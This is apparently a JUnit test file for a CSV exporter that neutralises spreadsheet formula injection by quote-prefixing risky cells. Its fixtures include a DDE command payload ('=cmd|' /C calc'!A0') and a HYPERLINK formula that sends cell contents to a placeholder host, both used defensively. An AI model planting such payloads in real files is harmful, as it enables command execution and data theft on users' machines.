package dev.threadkit.export;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import dev.threadkit.model.Article;
import dev.threadkit.model.Author;
import dev.threadkit.model.Comment;
import dev.threadkit.model.CommentId;
import dev.threadkit.model.Discussion;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** CSV keeps text exact by default; spreadsheet-safe CSV defuses cells a spreadsheet would run as formulas. */
class SpreadsheetSafeCsvTest {

  private static final List<String> FORMULAS = List.of(
      "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")", "+1+2", "-2+3", "@SUM(A1:A2)", "\tindented");

  private static Discussion withFormulas() {
    Discussion.Builder builder = Discussion.builder("formulas").article(Article.of("Formulas", List.of("Body.")));
    for (int i = 0; i < FORMULAS.size(); i++) {
      builder.add(Comment.builder(CommentId.of(i + 1), Author.of("=cmd|' /C calc'!A0")).text(FORMULAS.get(i)).build());
    }
    builder.add(Comment.builder(CommentId.of(FORMULAS.size() + 1), Author.of("plain")).text("a - b = c").build());
    return builder.build();
  }

  private static List<Map<String, Object>> rows(CsvExporter exporter) throws Exception {
    return FlatExportTest.readCsv(FlatExportTest.write(exporter, withFormulas()));
  }

  @Test
  void byDefaultTextIsExact() throws Exception {
    List<Map<String, Object>> rows = rows(CsvExporter.builder().build());

    for (int i = 0; i < FORMULAS.size(); i++) {
      assertThat(rows.get(i).get("text")).isEqualTo(FORMULAS.get(i));
      assertThat(rows.get(i).get("author")).isEqualTo("=cmd|' /C calc'!A0");
    }
  }

  @Test
  void spreadsheetSafePrefixesEveryCellAFormulaCouldStartWithAQuote() throws Exception {
    List<Map<String, Object>> rows = rows(CsvExporter.builder().spreadsheetSafe(true).build());

    for (int i = 0; i < FORMULAS.size(); i++) {
      assertThat(rows.get(i).get("text")).isEqualTo("'" + FORMULAS.get(i));
      assertThat(rows.get(i).get("author")).isEqualTo("'=cmd|' /C calc'!A0");
    }
    Map<String, Object> plain = rows.get(FORMULAS.size());
    assertThat(plain.get("text")).isEqualTo("a - b = c");
    assertThat(plain.get("author")).isEqualTo("plain");
    assertThat(plain.get("discussion")).isEqualTo("formulas");
  }

  @Test
  void theHeaderIsTheSameEitherWay() {
    String safe = new String(FlatExportTest.write(CsvExporter.builder().spreadsheetSafe(true).build(), withFormulas()), UTF_8);
    String exact = new String(FlatExportTest.write(CsvExporter.builder().build(), withFormulas()), UTF_8);

    assertThat(safe.lines().findFirst()).isEqualTo(exact.lines().findFirst());
  }

  @Test
  void aCarriageReturnAtTheStartIsDefusedToo() {
    // The model keeps \r out of comment text, but a name or an id could start with one.
    assertThat(dev.threadkit.export.internal.SpreadsheetSafe.cell("\r=1+1")).isEqualTo("'\r=1+1");
    assertThat(dev.threadkit.export.internal.SpreadsheetSafe.cell("")).isEmpty();
    assertThat(dev.threadkit.export.internal.SpreadsheetSafe.cell("1-2")).isEqualTo("1-2");
  }
}
